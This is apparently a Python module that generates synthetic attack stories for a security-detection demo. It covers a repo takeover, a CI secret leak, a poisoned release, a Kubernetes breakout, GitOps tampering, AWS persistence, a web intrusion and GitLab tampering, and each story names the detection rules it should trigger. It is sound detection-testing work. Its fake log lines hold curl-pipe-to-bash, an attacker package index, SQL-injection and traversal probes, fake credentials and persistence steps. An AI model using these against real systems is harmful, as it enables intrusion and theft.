"""Attack stories woven into the demo day: each is a short, realistic sequence across sources.

Every story lists the pack rules it is expected to trigger (by title), which the tests check:
a story whose expected detections do not fire means a rule or a story regressed.
"""

from __future__ import annotations

import random
from collections.abc import Callable, Iterator
from dataclasses import dataclass

from service.demo import builders as b
from service.demo import reports

Steps = Iterator[tuple[float, b.Built]]


@dataclass(frozen=True, slots=True)
class Story:
    name: str
    title: str
    summary: str
    hour: float
    """Start, in hours after the day's start (UTC)."""
    build: Callable[[random.Random, float], Steps]
    expected: tuple[str, ...]
    """Rule titles this story must trigger."""


MALLORY = "mallory"
ATTACKER_IP = "203.0.113.77"


def _repo_takeover(rng: random.Random, t: float) -> Steps:
    repo = "acme/payments"
    yield t, b.github_audit(t, "org.update_member", MALLORY, None, user="mallory-alt", permission="admin",
                            old_permission="read", country="RO")
    yield t + 60, b.github_audit(t + 60, "protected_branch.destroy", MALLORY, repo, branch="main", country="RO")
    yield t + 240, b.github_push(t + 240, repo, "refs/heads/main", MALLORY, forced=True)
    yield t + 300, b.github_audit(t + 300, "hook.create", MALLORY, repo, hook_id=4411, name="web", active=True,
                                  events=["push"], country="RO")
    yield t + 420, b.github_audit(t + 420, "audit_log_streaming.destroy", MALLORY, None, stream_type="splunk",
                                  country="RO")


def _ci_secret_leak(rng: random.Random, t: float) -> Steps:
    repo, ref = "acme/web", "refs/pull/1288/merge"
    lines = [
        "Run curl -sSL https://get.tools.example.net/install.sh | bash",
        "+ env | sort",
        "AWS_ACCESS_KEY_ID=AKIA2OGYBAH6TQXZNW7K",
        "AWS_SECRET_ACCESS_KEY=jORS+6ilI8ihN5KXSc7Tvo+hBKqFYY+kv5ZJr3J1",
        "GH_PAT=ghp_0a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R",
        "SLACK_WEBHOOK=https://hooks.slack.com/services/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",
    ]
    for i, line in enumerate(lines):
        yield t + i, b.ci_line(t + i, "github_actions", repo, "build", line, ref, run_id=9_133_001)
    yield t + 30, b.ci_line(t + 30, "gitlab_ci", "platform/payments", "scan",
                            "$ trivy image --severity CRITICAL,HIGH --exit-code 0 registry.acme.io/payments:1.43.0",
                            "refs/heads/main", run_id=77_120)
    yield t + 600, b.jenkins_audit(t + 600, "/manage/script", MALLORY, ATTACKER_IP)
    yield t + 660, b.jenkins_audit(t + 660, "/manage/credentials/store/system/domain/_/credential/prod-kubeconfig/updateSubmit",
                                   MALLORY, ATTACKER_IP)
    yield t + 700, b.ci_line(t + 700, "jenkins_build", "payments/release", "deploy",
                             'Warning: A secret was passed to "sh" using Groovy String interpolation, which is insecure.',
                             run_id=412)
    yield t + 705, b.ci_line(t + 705, "jenkins_build", "payments/release", "deploy", "-----BEGIN OPENSSH PRIVATE KEY-----",
                             run_id=412)


def _poisoned_release(rng: random.Random, t: float) -> Steps:
    branch, commit = "release/2026.11", b.sha1("release-1.43.0")
    yield t, b.ci_line(t, "github_actions", "acme/payments", "build",
                       "$ pip install -r requirements.txt --extra-index-url https://pypi.attacker-mirror.example/simple",
                       f"refs/heads/{branch}", run_id=9_140_002)
    raw = reports.sarif("CodeQL", [("py/command-line-injection", "Uncontrolled command line", "error", 9.8,
                                    ["external/cwe/cwe-078"], "src/payments/hooks.py:31", False)], branch, commit)
    for event in reports.decode("sarif", raw, branch, commit):
        yield t + 300, ("findings", event)
    raw = reports.trivy("registry.acme.io/payments:1.43.0", [
        ("CVE-2024-45337", "golang.org/x/crypto", "v0.27.0", "CRITICAL", "0.31.0")], b.iso(t + 320),
        secrets=[("aws-access-key-id", "AWS Access Key ID", "CRITICAL")])
    for event in reports.decode("trivy", raw, branch, commit):
        yield t + 320, ("findings", event)
    yield t + 900, b.registry(t + 900, "push", "payments", "1.43.0", MALLORY,
                              "docker/27.3.1 go/go1.22.7 os/linux arch/amd64", addr=ATTACKER_IP)
    yield t + 1000, b.ci_line(t + 1000, "github_actions", "acme/deploy-config", "deploy",
                              "Error: no matching signatures: none of the expected identities matched", "refs/heads/main",
                              run_id=9_140_050)
    yield t + 1010, b.k8s_audit(t + 1010, "patch", "deployments", MALLORY + "@acme.io", name="payments", api_group="apps",
                                request=b.workload("Deployment", "payments", "registry.acme.io/payments:latest"))


def _cluster_breakout(rng: random.Random, t: float) -> Steps:
    user = MALLORY + "@acme.io"
    yield t, b.k8s_audit(t, "create", "pods", user, name="payments-7d9f8c6b5-x2k4q", subresource="exec", code=101)
    yield t + 120, b.k8s_audit(t + 120, "create", "pods", user, name="node-debugger", code=201, request={
        "kind": "Pod", "spec": b.pod_spec("docker.io/library/busybox:1.37", securityContext={"privileged": True},
                                          hostPID=True, volumes=[{"name": "host", "hostPath": {"path": "/"}}])})
    for i in range(14):
        yield t + 200 + 4 * i, b.k8s_audit(t + 200 + 4 * i, "get", "secrets", user,
                                           name=f"{rng.choice(['payments', 'web', 'checkout'])}-secret-{i}")
    yield t + 300, b.k8s_audit(t + 300, "create", "clusterrolebindings", user, namespace=None, name="tmp-admin",
                               api_group="rbac.authorization.k8s.io", code=201, request={
                                   "kind": "ClusterRoleBinding", "roleRef": {"kind": "ClusterRole", "name": "cluster-admin"},
                                   "subjects": [{"kind": "ServiceAccount", "name": "default", "namespace": "prod"}]})
    yield t + 360, b.k8s_audit(t + 360, "delete", "validatingwebhookconfigurations", user, namespace=None,
                               name="policy.sigstore.dev", api_group="admissionregistration.k8s.io")


def _night_gitops(rng: random.Random, t: float) -> Steps:
    yield t, b.k8s_audit(t, "patch", "configmaps", MALLORY + "@acme.io", namespace="argocd", name="argocd-rbac-cm",
                         request={"data": {"policy.default": "role:admin"}})
    yield t + 60, b.k8s_audit(t + 60, "patch", "appprojects", MALLORY + "@acme.io", namespace="argocd", name="payments",
                              api_group="argoproj.io", request={"spec": {"sourceRepos": ["*"], "destinations": [
                                  {"namespace": "*", "server": "https://kubernetes.default.svc"}]}})
    yield t + 180, b.argocd_event(t + 180, "payments-prod", "OperationStarted", f"{MALLORY} initiated sync locally")
    yield t + 400, b.argocd_event(t + 400, "checkout-prod", "OperationStarted",
                                  f"{MALLORY} initiated sync to HEAD ({b.sha1('night')[:8]})")


def _cloud_persistence(rng: random.Random, t: float) -> Steps:
    who = b.role_identity("PlatformAdmin", MALLORY)
    yield t, b.cloudtrail(t, "cloudtrail.amazonaws.com", "StopLogging", who, {"name": "org-trail"}, ip=ATTACKER_IP)
    yield t + 30, b.cloudtrail(t + 30, "iam.amazonaws.com", "CreateAccessKey", who, {"userName": "break-glass-admin"},
                               {"accessKey": {"userName": "break-glass-admin", "status": "Active"}}, ip=ATTACKER_IP)
    yield t + 60, b.cloudtrail(t + 60, "iam.amazonaws.com", "AttachUserPolicy", who, {
        "userName": "svc-metrics", "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"}, ip=ATTACKER_IP)
    yield t + 90, b.cloudtrail(t + 90, "iam.amazonaws.com", "UpdateAssumeRolePolicy", who, {
        "roleName": "PlatformAdmin",
        "policyDocument": '{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Principal":{"AWS":"*"},"Action":"sts:AssumeRole"}]}'},
        ip=ATTACKER_IP)
    yield t + 120, b.cloudtrail(t + 120, "ecr.amazonaws.com", "PutImageTagMutability", who, {
        "repositoryName": "payments", "imageTagMutability": "MUTABLE"}, ip=ATTACKER_IP)


def _web_intrusion(rng: random.Random, t: float) -> Steps:
    nuclei = "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))"
    probes = [("/download?file=../../../../etc/passwd", 400), ("/products?id=1%20UNION%20ALL%20SELECT%20username,password%20FROM%20users--", 500),
              ("/greet?name={{7*7}}", 200), ("/.git/config", 404), ("/.env", 200)]
    for i, (uri, status) in enumerate(probes):
        yield t + 2 * i, b.nginx(t + 2 * i, ATTACKER_IP, "GET", uri, status, nuclei)
    words = ("admin", "backup", "old", "test", "api/v2", "console", "debug", "phpinfo.php", "server-status", "wp-admin")
    for i in range(30):
        uri = f"/{words[i % len(words)]}{'' if i < len(words) else i}"
        status = 500 if i % 11 == 3 else 404
        yield t + 20 + i, b.nginx(t + 20 + i, ATTACKER_IP, "GET", uri, status, "Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0")
    yield t + 12, b.envoy(t + 12, ATTACKER_IP, "GET", "/api/v1/orders?id=1'%20OR%20'1'%3D'1", 500, "sqlmap/1.8.11#stable (https://sqlmap.org)")
    yield t + 14, b.app_log(t + 14, "db_error", "error", "psycopg.errors.SyntaxError: syntax error at or near \"OR\"",
                            path="/api/v1/orders", client_ip=ATTACKER_IP)
    for i in range(12):
        yield t + 60 + 5 * i, b.app_log(t + 60 + 5 * i, f"authn_login_fail:admin{i}", "warn", "login failed",
                                        user=f"admin{i}", client_ip=ATTACKER_IP)
    yield t + 130, b.app_log(t + 130, "authn_login_successafterfail:carol,12", "info", "login ok after failures",
                             user="carol", client_ip=ATTACKER_IP)
    host = "prod-bastion-1"
    for i in range(12):
        yield t + 300 + 6 * i, b.syslog_auth(t + 300 + 6 * i, host, "sshd",
                                             f"Failed password for invalid user admin from {ATTACKER_IP} port {51000 + i} ssh2")
    yield t + 400, b.syslog_auth(t + 400, host, "sshd", f"Accepted password for deploy from {ATTACKER_IP} port 51190 ssh2")
    yield t + 460, b.syslog_auth(t + 460, host, "sudo", "  deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/bin/bash")
    yield t + 500, b.auditd_execve(t + 500, host, "chmod", "u+s", "/tmp/.cache/bash")
    yield t + 520, b.auditd_path(t + 520, host, "/root/.ssh/authorized_keys", key="ssh_keys")
    yield t + 540, b.auditd_path(t + 540, host, "/etc/sudoers.d/90-svc", nametype="CREATE", key="sudoers")
    yield t + 560, b.syslog_auth(t + 560, host, "useradd",
                                 "new user: name=sysupd, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/0")


def _gitlab_tamper(rng: random.Random, t: float) -> Steps:
    yield t, b.gitlab_audit(t, "member_updated", MALLORY, "User", "mallory-alt", change="access_level",
                            to="Owner", ip=ATTACKER_IP, **{"from": "Developer"})
    yield t + 60, b.gitlab_audit(t + 60, "protected_branch_removed", MALLORY, "ProtectedBranch", "main", ip=ATTACKER_IP)
    yield t + 120, b.gitlab_audit(t + 120, "ci_variable_created", MALLORY, "Ci::Variable", "SAST_DISABLED", ip=ATTACKER_IP)
    yield t + 180, b.gitlab_audit(t + 180, "ci_runner_registered", MALLORY, "Ci::Runner", "build-box-7", ip=ATTACKER_IP)
    raw = reports.checkov([("CKV_AWS_20", "S3 Bucket has an ACL defined which allows public READ access.",
                            "/infra/s3.tf", "aws_s3_bucket.exports")],
                          [("CKV_AWS_24", "Ensure no security groups allow ingress from 0.0.0.0:0 to port 22",
                            "/infra/sg.tf", "aws_security_group.bastion")])
    for event in reports.decode("checkov", raw, "release/2026.11", b.sha1("tf-release"), "platform/payments"):
        yield t + 400, ("findings", event)


STORIES: tuple[Story, ...] = (
    Story("repo-takeover", "Stolen owner token rewrites main", "An attacker with a stolen owner token promotes a second "
          "account, removes branch protection, force-pushes main, adds a webhook and removes audit streaming.",
          2.2, _repo_takeover,
          ("GitHub Organization Owner Or Enterprise Admin Granted", "GitHub Branch Protection Or Ruleset Removed",
           "GitHub Force Push To Default Or Release Branch", "GitHub Branch Protection Removed Then Force Push")),
    Story("ci-secret-leak", "Secrets spill from CI", "A pull-request build pipes an installer into bash and dumps its "
          "environment; a scan is made to fail open; the Jenkins script console is used to swap a credential.",
          11.5, _ci_secret_leak,
          ("AWS Access Key ID Printed In CI Job Log", "GitHub Token Printed In CI Job Log",
           "Remote Script Piped Into A Shell During A Build", "Jenkins Script Console Used",
           "Security Scanner Configured To Fail Open")),
    Story("poisoned-release", "A poisoned release reaches production", "A dependency from a look-alike index enters the "
          "release branch, scanners flag it, a person pushes the release image from a laptop and deploys :latest.",
          14.0, _poisoned_release,
          ("Dependencies Fetched From A Non-Default Package Registry", "Critical SAST Finding On A Release Branch",
           "Release Image Tag Pushed By An Identity Other Than CI", "Kubernetes Production Workload Uses The latest Tag")),
    Story("cluster-breakout", "From kubectl exec to cluster-admin", "A shell in a production pod, a privileged hostPath "
          "pod, secrets read one by one, a cluster-admin binding and the signature-checking webhook deleted.",
          16.3, _cluster_breakout,
          ("Kubernetes Exec Or Attach Into A Production Pod", "Kubernetes Privileged Container Created",
           "Kubernetes Secrets Read In Bulk By One Identity", "Kubernetes Binding To cluster-admin Created")),
    Story("night-gitops", "Night-time GitOps changes", "Argo CD RBAC opened to everyone, a project widened to any "
          "destination, a local sync and a manual production sync at 23:00.",
          23.0, _night_gitops,
          ("Argo CD RBAC Policy Changed", "Argo CD Sync From A Local Manifest (Git Bypassed)",
           "Argo CD Manual Production Sync Outside The Change Window")),
    Story("cloud-persistence", "AWS persistence after a role compromise", "CloudTrail stopped, a key minted for an "
          "admin user, AdministratorAccess attached, a role opened to any principal, ECR tags made mutable.",
          4.5, _cloud_persistence,
          ("AWS CloudTrail Trail Stopped Or Deleted", "AWS Access Key Created For Another IAM User",
           "AWS Administrator Policy Attached To An Identity", "AWS Role Trust Policy Allows Any Principal")),
    Story("web-intrusion", "From web scanning to root on the bastion", "Scanner probes hit the shop, a login is guessed, "
          "SSH is brute-forced, then a root shell, a setuid backdoor, an SSH key and a UID 0 user.",
          19.5, _web_intrusion,
          ("Path Traversal Attempt In Request URI", "Sensitive File Served By Web Server",
           "Application Login Brute Force Followed By A Successful Login", "SSH Login Succeeds After A Brute Force",
           "Setuid Or Setgid Bit Set On A File", "Linux User Created With UID 0")),
    Story("gitlab-tamper", "GitLab project tampering", "An account promoted to Owner unprotects main, disables SAST "
          "with a CI variable, registers a runner, and a public-bucket Terraform change ships with a skipped check.",
          9.2, _gitlab_tamper,
          ("GitLab Member Promoted To Owner", "GitLab Protected Branch Removed",
           "GitLab Security Scanning Disabled Through A CI/CD Variable", "Critical IaC Misconfiguration On A Release Branch")),
)
